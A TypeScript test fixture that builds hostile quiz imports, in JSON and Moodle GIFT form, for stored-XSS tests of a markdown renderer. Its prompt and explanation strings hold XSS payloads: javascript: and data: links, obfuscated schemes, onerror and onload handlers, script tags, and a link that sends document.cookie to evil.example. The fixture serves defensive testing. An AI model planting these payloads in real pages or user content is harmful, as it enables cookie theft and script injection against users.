// Hostile markdown for the stored-XSS tests: links with every script scheme we know, raw HTML, foreign images.
// Shared by tests/e2e/stored-xss.spec.ts and the integration test that keeps this corpus importable.

const sentinel = "window.__xss=1";

const hostilePrompt = (marker: string) =>
  [
    `${marker} prompt.`,
    `[xss-js-link](javascript:alert('js-link'))`,
    `[xss-fetch-link](javascript:fetch('https://evil.example/steal?c='+document.cookie);${sentinel})`,
    `[xss-data-link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
    `[xss-case-link](JaVaScRiPt:alert('case'))`,
    `[xss-entity-link](&#106;avascript:alert('entity'))`,
    `[xss-ref-link][evil]`,
    `![xss-pixel](https://evil.example/pixel.png)`,
    `<img src=x onerror="alert('img')"> <script>${sentinel};alert('script')</script>`,
    `<a href="javascript:alert('raw')">xss-raw-link</a>`,
    "",
    "[evil]: javascript:alert('ref')",
  ].join(" \n");
const hostileExplanation = `Explained. [xss-expl-link](javascript:alert('explanation')) <svg onload="alert('svg')"></svg> ![xss-expl-pixel](//evil.example/p.png)`;

/** One single-choice question as a Roundtrip JSON import, hostile in its prompt and explanation. */
export const hostileJsonImport = (marker: string) =>
  JSON.stringify([
    {
      id: `addressing/${marker}-json`,
      type: "single",
      chapter: "addressing",
      section: "ipv4-ipv6",
      difficulty: "easy",
      tags: ["security"],
      prompt: hostilePrompt(marker),
      explanation: hostileExplanation,
      choices: [
        { id: "a", text: "Yes", correct: true, feedback: "Yes." },
        { id: "b", text: "No", correct: false, feedback: "No." },
        { id: "c", text: "Maybe", correct: false, feedback: "Maybe not." },
      ],
    },
  ]);
/** The same idea in Moodle GIFT (escaped as GIFT requires). */
export const hostileGiftImport = (marker: string) =>
  `::${marker} gift::[markdown]${marker} gift prompt [xss-gift-link](javascript\\:alert('gift')) <img src\\=x onerror\\=alert('gift-img')>{=Yes ~No ~Maybe####[xss-gift-expl](javascript\\:alert('gift-expl'))}`;
